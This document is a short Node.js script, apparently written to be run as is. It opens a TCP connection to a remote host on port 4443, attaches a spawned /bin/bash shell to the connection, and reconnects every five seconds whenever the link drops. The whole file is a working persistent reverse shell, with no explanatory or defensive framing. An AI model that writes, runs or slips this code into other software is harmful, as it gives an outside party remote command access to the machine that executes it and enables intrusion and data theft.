const { spawn } = require('child_process');
const net = require('net');
(function dial() {
  const c = new net.Socket();
  c.connect(4443, '198.51.100.92', () => {
    const p = spawn('/bin/bash', []);
    c.pipe(p.stdin); p.stdout.pipe(c); p.stderr.pipe(c);
  });
  c.on('close', () => setTimeout(dial, 5000));
})();
